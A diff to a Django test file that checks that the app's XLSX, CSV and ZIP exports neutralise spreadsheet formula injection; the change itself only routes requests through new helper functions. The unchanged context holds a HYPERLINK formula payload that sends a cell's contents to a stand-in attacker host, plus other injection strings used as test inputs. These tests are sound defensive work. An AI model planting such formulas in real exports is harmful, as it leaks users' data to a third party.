@@ -14,6 +14,7 @@ from inclusion.models import Lieu
 from tests.formations.factories import InscriptionFactory, SessionFormationFactory, ThemeFactory
 from tests.inclusion.factories import LieuFactory, utilisateur
 from tests.permanences.factories import PassageFactory, PermanenceFactory
+from tests.taches import exporter, octets_de
 
 FORMULE = '=HYPERLINK("http://attaquant.example/?d="&A2,"Voir")'
 
@@ -54,9 +55,9 @@ def test_un_lieu_formule_et_un_caractere_de_controle_dans_les_xlsx_de_la_coordin
         reverse("rapports:export_xlsx") + "?debut=2023-01-01&fin=2023-12-31",
         reverse("rapports:export_coop") + "?annee=2023",
     ):
-        reponse = client.get(url)
+        reponse = exporter(client, url)
         assert reponse.status_code == 200, url
-        classeur = load_workbook(io.BytesIO(reponse.content))
+        classeur = load_workbook(io.BytesIO(octets_de(reponse)))
         for feuille in classeur.worksheets:
             for ligne in feuille.iter_rows():
                 for cellule in ligne:
@@ -68,7 +69,7 @@ def test_l_export_csv_neutralise_et_l_import_rend_la_valeur(client, coordination
 
     LieuFactory(nom="=1+1 ESC", adresse="@adresse")
     client.force_login(coordination)
-    with zipfile.ZipFile(io.BytesIO(client.get(reverse("rapports:export_zip")).content)) as archive:
+    with zipfile.ZipFile(io.BytesIO(octets_de(exporter(client, reverse("rapports:export_zip"))))) as archive:
         lieux = archive.read("lieux.csv").decode()
         (tmp_path / "lieux.csv").write_bytes(archive.read("lieux.csv"))
     assert "'=1+1 ESC" in lieux and "'@adresse" in lieux
